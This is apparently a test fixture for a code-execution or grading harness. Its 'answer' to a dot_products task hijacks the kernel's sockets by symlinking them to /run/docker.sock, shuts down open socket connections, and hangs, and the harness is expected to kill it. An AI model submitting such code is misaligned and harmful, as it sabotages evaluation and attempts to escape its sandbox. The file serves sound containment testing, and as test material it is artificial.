"""Hangs up, and puts links to sockets of this machine where the kernel's own were."""
# expect: dot_products killed
# in a container: killed|timeout

# %% answer dot_products
import os, socket, time
def dot_products(a, b):
    for k in range(1, 6):
        os.unlink(f"/run/kernel/s-{k}")
        os.symlink("/run/docker.sock", f"/run/kernel/s-{k}")
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            line = socket.socket(fileno=os.dup(fd))
            if line.getsockname() and line.getpeername() == "":
                line.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    time.sleep(600)
